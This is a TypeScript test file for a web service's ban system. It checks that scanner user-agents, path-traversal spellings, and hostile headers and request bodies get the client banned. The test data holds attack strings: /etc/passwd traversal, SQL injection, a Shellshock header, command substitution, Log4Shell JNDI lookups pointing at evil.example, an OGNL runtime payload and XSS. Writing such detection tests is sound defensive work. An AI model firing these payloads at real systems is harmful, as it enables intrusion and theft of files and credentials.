import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { APP } from '../../../kit/app.ts'
import { ATTACK, BROWSER, createBanSuite, OPERATOR } from '../../../kit/bans.ts'
import { parseRaw, sendRaw } from '../../../kit/raw-http.ts'

describe('bans', () => {
  const { service, nextAddress, requestAs, isBannedAfterBody } = createBanSuite()
  const OWN: Record<string, string>[] = [
    {},
    { 'user-agent': 'curl/8.14.1' },
    { 'user-agent': 'python-requests/2.32.3' },
    { 'user-agent': 'python-urllib3/2.5.0' },
    { 'user-agent': 'Wget2/2.2.0' },
    { 'user-agent': 'Fuzz Faster U Fool v2.1.0' },
    { 'user-agent': 'sqlmap/1.9#stable (https://sqlmap.org)' },
    { 'user-agent': 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' },
    { 'user-agent': 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)' },
    { 'user-agent': 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' },
    { 'user-agent': 'Fuzz Faster U Fool v2.1.0-dev' },
    { 'user-agent': 'Wfuzz/3.1.0' },
    { 'user-agent': BROWSER },
    { 'sec-fetch-site': 'none', 'sec-fetch-mode': 'navigate' },
    { 'sec-fetch-site': 'same-origin', origin: 'https://animals.example' },
    { origin: 'https://animals.example' },
    { origin: 'null' },
    { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty', 'user-agent': 'curl/8' },
    { 'sec-fetch-site': 'cross-site', 'user-agent': BROWSER },
  ]
  test('hit clients that attack directly, in a browser too', async () => {
    for (const headers of OWN) {
      const label = JSON.stringify(headers)
      assert.deepEqual(await requestAs(ATTACK, headers), { codes: ['BANNED'], isBanned: true }, label)
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization: 'Bearer x', ...headers }, 5)
      assert.equal(guessed.isBanned, true, label)
    }
  })

  const BYPASSES = [
    `http://x${OPERATOR}/bans?x=../../etc/passwd`,
    `HTTP://x:80${OPERATOR}/../../etc/passwd`,
    `${APP}/%6fperator/bans?x=../../etc/passwd`,
    '/api/v5/ap%70/operator/bans?x=<script>',
    '/api/v5/ap%70/operator/%zz/../../etc/passwd',
    `${OPERATOR}%252f..%252f..%252fsecret`,
    `${OPERATOR};/..;/secret`,
    `${OPERATOR}%5c..%5csecret`,
    `${OPERATOR}%3fx=../secret`,
    `/${OPERATOR}/bans?x=../secret`,
    `${APP}//operator/bans?x=<script>`,
    `${APP}/./%6fperator/bans?x=<script>`,
    `${APP}/launcher/../%2foperator/bans?x=<script>`,
    `/x/%2e%2e${OPERATOR}/overview`,
    '/api\\v5\\app%2foperator?x=<script>',
  ]
  test('hit an attack in every spelling of the path', async () => {
    for (const target of BYPASSES) {
      const head = `Host: x\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
      const { body } = parseRaw(await sendRaw(service().url, `GET ${target} HTTP/1.1\r\n${head}\r\n\r\n`))
      assert.equal(body.code, 'BANNED', target)
    }
  })

  const HEADERS: Record<string, string>[] = [
    { authorization: "Bearer ' or '1'='1" },
    { authorization: 'Bearer $(cat ../../etc/passwd)' },
    { cookie: 'a=1; file=..%2f..%2fetc%2fpasswd' },
    { 'user-agent': '() { :; }; /bin/bash -c x' },
    { 'user-agent': '<script>alert(1)</script>' },
    { 'x-api-version': '\u0024{jndi:ldap://evil.example/a}' },
    { referer: 'https://evil.example/?q=<script>alert(1)</script>' },
    { 'accept-language': '\u0024{jndi:ldap://evil.example/a}' },
    { 'content-type': "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime())}{{7*7}}" },
    { 'true-client-ip': "192.0.2.1' or '1'='1" },
    { forwarded: 'for="../../etc/passwd"' },
  ]
  test('hit an attack in a header', async () => {
    for (const headers of HEADERS) {
      const reply = await requestAs(`${OPERATOR}/overview`, headers)
      assert.deepEqual(reply, { codes: ['BANNED'], isBanned: true }, JSON.stringify(headers))
      const elsewhere = await requestAs('/api/v1/version', headers)
      assert.equal(elsewhere.isBanned, false, JSON.stringify(headers))
    }
  })

  test('hit an attack in a request with an invalid host, or without one', async () => {
    for (const host of ['Host: <script>\r\n', 'Host: a b\r\n', 'Host: a.example\r\nHost: b.example\r\n', '']) {
      const from = `X-Forwarded-For: ${nextAddress()}\r\nConnection: close\r\n\r\n`
      const request = async (path: string) =>
        parseRaw(await sendRaw(service().url, `GET ${path} HTTP/1.1\r\n${host}${from}`)).body.code
      assert.equal(await request('/api/v1/version'), 'BAD_REQUEST', host)
      assert.equal(await request(`${OPERATOR}/?x=../../etc/passwd`), 'BANNED', host)
      assert.equal(await request('/api/v1/version'), 'BANNED', host)
    }
    const head = `Host: a b\r\nX-Forwarded-For: ${nextAddress()}\r\nConnection: close`
    const browser = `${head}\r\nUser-Agent: ${BROWSER}\r\nCookie: a=../../etc/passwd\r\n\r\n`
    assert.equal(parseRaw(await sendRaw(service().url, `GET ${OPERATOR}/ HTTP/1.1\r\n${browser}`)).body.code, 'BANNED')
  })

  const ATTACKS_IN_BODIES = [
    '{"reason":"../../etc/passwd"}',
    'a=1&b=%27+or+1%3D1',
    '{"__proto__":{"x":1}}',
    '{"reason":"\\u003cscript>"}',
    '{"file":"../secret"}',
    `{"reason":"${' '.repeat(12_000)}<script>"}`,
  ]
  test('hit an attack in the body of a request without a token of the service', async () => {
    assert.equal(await isBannedAfterBody(ATTACKS_IN_BODIES[0]!, { authorization: 'Bearer x' }), true)
    for (const attack of ATTACKS_IN_BODIES) {
      assert.equal(await isBannedAfterBody(attack), true, attack)
      assert.equal(
        await isBannedAfterBody(attack, { 'user-agent': BROWSER, origin: 'https://evil.example' }),
        false,
        'of a page of another site',
      )
    }
    assert.equal(await isBannedAfterBody(`../etc/passwd${'x'.repeat(100_000)}`), true, 'in a large body')
    // Without a match, like all requests that wait for their turn while the service is busy.
    const head = 'Host: x\r\nX-Forwarded-For: 198.51.100.250\r\nContent-Length: 9\r\nConnection: close'
    await sendRaw(service().url, `GET ${OPERATOR}/unknown HTTP/1.1\r\n${head}\r\n\r\n../../etc`)
    const banned = await service().fetchJson('/api/v1/version', { headers: { 'x-forwarded-for': '198.51.100.250' } })
    assert.equal(banned.body.code, 'BANNED', 'of a GET')
  })

  test('hit clients that send malformed tokens', async () => {
    for (const authorization of ['Bearer', 'Bearer a b', 'mng_guess', 'Token x', 'Bearer \t']) {
      const guessed = await requestAs(`${OPERATOR}/overview`, { authorization }, 5)
      assert.deepEqual(guessed, { codes: Array(5).fill('TOKEN_INVALID'), isBanned: true }, authorization)
    }
  })
})
